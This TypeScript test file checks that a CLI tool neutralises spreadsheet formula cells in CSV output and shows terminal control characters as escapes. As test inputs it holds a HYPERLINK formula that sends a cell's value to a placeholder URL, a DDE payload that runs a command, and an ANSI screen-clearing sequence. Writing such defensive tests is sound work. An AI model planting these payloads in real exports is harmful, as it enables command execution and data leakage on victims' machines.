import { test } from "node:test";
import assert from "node:assert/strict";
import { neutraliseFormula, restoreFormula } from "../../src/io/csv-formula";
import { renderRows } from "../../src/cli/render-table";

test("cells a spreadsheet would run are written as text, and read back exactly", () => {
  const cases: [string, string][] = [
    ['=HYPERLINK("http://x/?"&A1)', `'=HYPERLINK("http://x/?"&A1)`],
    ["+1", "'+1"], ["-5", "'-5"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "'\rx"],
    ["'=x", "''=x"], ["''+x", "'''+x"],
    ["'abc", "'abc"], ["plain", "plain"], ["", ""], ["a=b", "a=b"], ["'", "'"],
  ];
  for (const [value, cell] of cases) {
    assert.equal(neutraliseFormula(value), cell, value);
    assert.equal(restoreFormula(cell), value, cell);
  }
});

test("summary CSV neutralises string cells, not numbers; the text table shows control characters as escapes", () => {
  const rows = [{ model: "=cmd|' /C calc'!A0", n: -3, rate: 0.25 }, { model: "evil\u001b[2J\nname", n: 4, rate: 0.5 }];
  const csv = renderRows(rows, "csv");
  assert.equal(csv.split("\n")[1], `'=cmd|' /C calc'!A0,-3,0.25`);
  const table = renderRows(rows, "table");
  assert.ok(!table.includes("\u001b") && !table.includes("evil\n"));
  assert.match(table, /evil\\x1b\[2J\\nname/);
});
